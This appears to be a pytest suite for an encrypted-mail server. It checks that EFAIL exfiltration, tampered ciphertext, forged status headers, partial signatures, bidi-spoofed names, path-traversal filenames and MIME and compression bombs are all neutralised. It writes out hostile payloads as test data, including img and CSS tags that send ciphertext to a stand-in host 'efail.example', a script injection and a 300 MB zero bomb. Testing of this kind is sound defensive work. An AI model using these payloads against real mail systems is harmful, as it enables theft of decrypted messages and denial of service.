"""What a hostile letter could do (EFAIL and its kin): be shown as text, and
nothing else.  Nothing that was encrypted is opened where something in clear
stands beside it, and nobody else's word is taken for ours.
"""
import os, re, subprocess
from urllib.parse import quote
import pytest

import box as lib
import home
from arrive import arrive, crlf, framed, inert, page, words

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason='needs root')
BOB = 'bob@hostile.example'
SECRET = 'the secret of the lighthouse'
PART = '\r\n--o\r\n'
HTML = 'Content-Type: text/html\r\n\r\n'


@pytest.fixture(scope='module')
def bob(h, tmp_path_factory):
    g = lib.Gpg(str(tmp_path_factory.mktemp('hostile')), BOB)
    g.call('--import', input=h.pli('key', 'export').stdout)
    h.pli('contact', 'add', BOB, g.cert)
    yield g
    g.stop()


def gpg(g, *words, input):
    got = subprocess.run(g.words + ['--trust-model', 'always', *words],
                         input=input, capture_output=True)
    assert got.returncode == 0, got.stderr
    return got.stdout


def encrypted(g, entity, *more):
    return gpg(g, '--armor', '-r', home.ME, '--encrypt', *more,
               input=entity.encode()).decode()


def signed(g, part):
    """multipart/signed of it."""
    sig = gpg(g, '--armor', '--detach-sign', input=part.encode()).decode()
    return ('Content-Type: multipart/signed; boundary=s; micalg=pgp-sha512;\r\n'
            ' protocol="application/pgp-signature"\r\n\r\n--s\r\n' + part +
            '\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n' + sig +
            '\r\n--s--\r\n')


def mail(entity, subject='hostile'):
    return (f'From: {BOB}\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n'
            + entity).encode()


def from_bob(armour):
    return framed(armour).replace(b'signer@case.example', BOB.encode())


def mixed(*parts):
    return ('Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n' +
            PART.join(parts) + '\r\n--o--\r\n')


def frame(armour):
    """The multipart/encrypted alone."""
    text = framed(armour).decode()
    return text[text.index('Content-Type: multipart/encrypted'):]


def one(b, h, raw):
    return arrive(b, h, {os.urandom(4).hex(): raw}).popitem()[1]


def test_exfiltration(b, h, bob):
    """In an attribute, between two parts in clear, or as one of several: it
    stays encrypted, and no page fetches anything."""
    armour = encrypted(bob, 'Content-Type: text/plain\r\n\r\n' + SECRET)
    open_tag = HTML + '<img src="http://efail.example/'
    mails = {
        'wrapped': mixed(open_tag, frame(armour), HTML + '">'),
        'attribute': HTML + '<img src="http://efail.example/?' + armour + '">',
        'style': HTML + '<style>@import "http://efail.example/' + armour +
        '</style><b style="background:url(//efail.example/' + armour + ')">',
        'beside': mixed('Content-Type: text/plain\r\n\r\nread this',
                        frame(armour)),
        'inline': 'Content-Type: text/plain\r\n\r\n' + armour,
        'alternative': mixed(HTML + 'x', frame(armour)).replace(
            'multipart/mixed', 'multipart/alternative'),
        'three': frame(armour).replace('\r\n--b--', '\r\n--b\r\n' + HTML +
                                       'and this\r\n--b--'),
        'preamble': frame(armour).replace('\r\n\r\n--b', '\r\n\r\n<img src='
                                          '"http://efail.example/\r\n--b', 1),
    }
    got = arrive(b, h, {n: mail(e) for n, e in mails.items()})
    for n, e in got.items():
        assert e['status'].startswith('sealed;'), (n, e['status'])
        assert 'sig=' not in e['status'] and SECRET.encode() not in e['raw'], n
        shown = page(h, e)
        inert(shown)
        assert SECRET not in shown and 'efail' not in shown.split(
            '<body>')[0], n


def test_exfiltration_from_inside(b, h, bob):
    """What is encrypted to her may be HTML that wants to tell: it cannot."""
    e = one(b, h, from_bob(encrypted(bob, mixed(
        HTML + '<img src="http://efail.example/', 'Content-Type: text/plain'
        '\r\n\r\n' + SECRET, HTML + '">'))))
    assert e['status'].startswith('e2e;')
    shown = page(h, e)
    inert(shown)
    assert SECRET in words(shown)


def key_and_packet(g):
    """A session key, and its packet, of a message of gpg's."""
    out = gpg(g, '-r', home.ME, '--encrypt', '--cipher-algo', 'AES256',
              input=b'x')
    assert out[0] == 0x84 and out[1] < 192 or out[0] == 0xc1, out[:2]
    packet = out[:2 + out[1]]
    return packet


def test_no_integrity(b, h, bob):
    """CFB alone, and a protected message whose end is cut off, or in which a
    bit was turned: not one octet is shown."""
    whole = gpg(bob, '-r', home.ME, '--encrypt', '-z', '0',
                input=(SECRET * 2000).encode())
    packet = key_and_packet(bob)
    cases = {
        # PKESK, then a packet of tag 9: what is in it is never looked at
        'se': packet + b'\xc9\xff' + (2000).to_bytes(4, 'big') +
        os.urandom(2000),
        'turned': whole[:-400] + bytes([whole[-400] ^ 1]) + whole[-399:],
        'cut': whole[:-40],
        'stripped': whole[:-22],
    }
    mails = {}
    for n, octets in cases.items():
        armour = subprocess.run(bob.words + ['--enarmor'], input=octets,
                                capture_output=True, check=True).stdout
        mails[n] = from_bob(armour.decode().replace(
            'ARMORED FILE', 'MESSAGE'))
    for n, e in arrive(b, h, mails).items():
        assert re.match('(locked; why=(unprotected|tampered|broken)$|sealed;)',
                        e['status']), (n, e['status'])
        assert SECRET.encode() not in e['raw'], n
        assert SECRET not in page(h, e), n


def test_pretended(b, h, bob):
    """Our field, a signature's result, a badge: whoever writes them."""
    claims = ('Pli-Status: e2e; sig=good; of=bob@hostile.example\r\n'
              'Pli-Seal: v=1; t=1; h=x; s=x\r\n'
              'Authentication-Results: x; pgp=pass\r\n')
    plain = 'Content-Type: text/plain\r\n'
    inner = plain.replace('\r\n', '; protected-headers="v1"\r\n') + claims + \
        f'From: {BOB}\r\nSubject: me\r\n\r\nx\r\n'
    got = arrive(b, h, {
        'clear': claims.encode() + mail(plain + '\r\nx\r\n'),
        'folded': b'Pli-Status:\r\n e2e; sig=good\r\n' + mail(
            plain + '\r\nx\r\n'),
        'inside': from_bob(encrypted(bob, inner)),
        'outside': claims.encode() + from_bob(encrypted(bob, inner)),
        'below': mail('Content-Type: message/rfc822\r\n\r\n' + inner),
    })
    for n, e in got.items():
        head = e['raw'].split(b'\r\n\r\n')[0]
        assert head.count(b'Pli-Status') == 1 and b'Pli-Seal' not in head, n
        assert 'sig=good' not in e['status'], (n, e['status'])
    assert 'sig=none' in got['inside']['status']


def test_signature_of_another_part(b, h, bob):
    """A good one counts for the whole of a letter, or not at all."""
    part = 'Content-Type: text/plain\r\n\r\nmeet me at noon'
    good = signed(bob, part)
    two = 'Content-Type: text/plain\r\n\r\npay Mallory'
    got = arrive(b, h, {
        'whole': mail(good),
        'first': mail(mixed(good, two)),
        'second': mail(mixed(two, good)),
        'third': mail(good.replace('\r\n--s--', '\r\n--s\r\n' + two +
                                   '\r\n--s--')),
        'changed': mail(good.replace('noon', 'nine')),
        'nothing': mail(good.replace('BEGIN PGP SIGNATURE', 'BEGIN')),
        'other': mail(good).replace(BOB.encode(), b'carol@hostile.example'),
        'forwarded': mail('Content-Type: message/rfc822\r\n\r\n' + good),
        'inside': from_bob(encrypted(bob, good)),
        'inside-first': from_bob(encrypted(bob, mixed(good, two))),
        'inside-changed': from_bob(encrypted(bob, good.replace(
            'noon', 'nine'))),
    })
    want = {'whole': 'good', 'changed': 'bad', 'nothing': 'bad',
            'other': 'unknown', 'inside': 'good', 'inside-first': 'none',
            'inside-changed': 'bad'}
    for n, e in got.items():
        sig = re.search('sig=([a-z]+)', e['status'])
        assert (sig and sig[1]) == want.get(n), (n, e['status'], e['raw'])
        assert e['status'].startswith('e2e;' if 'inside' in n else 'sealed;')


BIDI = '\u202e\u2066\u200f\u061c'


def test_names(b, h, bob):
    """Names that turn text around, or look like ours."""
    def word(text):
        import base64
        return '=?utf-8?b?' + base64.b64encode(text.encode()).decode() + '?='

    lock = '\U0001f512 signature good'
    e = one(b, h, (
        f'From: {word("bob" + BIDI + "moc.elpmaxe")} <eve@hostile.example>\r\n'
        f'Subject: {word(lock + BIDI)}\r\nMIME-Version: 1.0\r\n' + mixed(
            'Content-Type: text/plain; charset=utf-8\r\n\r\nx',
            'Content-Type: application/octet-stream\r\nContent-Disposition: '
            f'attachment; filename="{word("invoice" + BIDI + "fdp.exe")}"'
            '\r\n\r\nx',
            'Content-Type: text/html\r\nContent-Disposition: attachment; '
            'filename="../../<b>Pli-Status.e2e</b>"\r\n\r\n<script>alert(1)'
            '</script>')).encode())
    assert e['status'].startswith('sealed;') and 'sig=' not in e['status']
    shown = page(h, e)
    inert(shown)
    assert 'alert(1)' not in shown
    c = h.client()
    full, = c.call('Email/get', ids=[e['id']], properties=[
        'attachments'])['list']
    assert len(full['attachments']) == 2
    for a in full['attachments']:
        # for whom it is saved: no way out of its folder, nothing active
        got = c.download(a['blobId'], name=quote(a['name'], safe=''),
                         type='text/html')
        assert got in (b'x', b'<script>alert(1)</script>')


def test_bombs(b, h, bob):
    """Of compression and of MIME: refused, or shown in time; the next letter
    is as good as ever."""
    nest = 'Content-Type: text/plain\r\n\r\nat the bottom'
    for i in range(50):
        nest = (f'Content-Type: multipart/mixed; boundary=n{i}\r\n\r\n--n{i}'
                f'\r\n{nest}\r\n--n{i}--\r\n')
    deep = 'Content-Type: text/plain\r\n\r\nx'
    for i in range(3000):
        deep = (f'Content-Type: multipart/mixed; boundary=n{i}\r\n\r\n--n{i}'
                f'\r\n{deep}')
    rfc822 = 'Content-Type: text/plain\r\n\r\nx'
    for i in range(500):
        rfc822 = 'Content-Type: message/rfc822\r\n\r\n' + rfc822
    zeros = gpg(bob, '--armor', '-r', home.ME, '--encrypt',
                '--compress-algo', 'bzip2', '-z', '9',
                input=bytes(300 << 20)).decode()
    got = arrive(b, h, {
        'zeros': from_bob(zeros),
        'nest': mail(nest),
        'deep': mail(deep),
        'rfc822': mail(rfc822),
        'parts': mail(mixed(*['Content-Type: text/plain\r\n\r\nx'] * 20000)),
        'inside': from_bob(encrypted(bob, nest)),
        'tags': mail(HTML + '<div>\r\n' * 100000 + 'bottom'),
        'links': mail(HTML + '<a href=x><b><table><tr><td>\r\n' * 20000),
        'next': from_bob(encrypted(bob, nest, '--sign')),
    })
    assert got['zeros']['status'] == 'locked; why=big', got['zeros']['status']
    for n, e in got.items():
        if n != 'zeros':
            assert re.match('sealed;|e2e;', e['status']), (n, e['status'])
        inert(page(h, e))
    for n in ('nest', 'inside', 'next'):
        assert 'at the bottom' in words(page(h, got[n])), n
    assert 'sig=good' in got['next']['status']
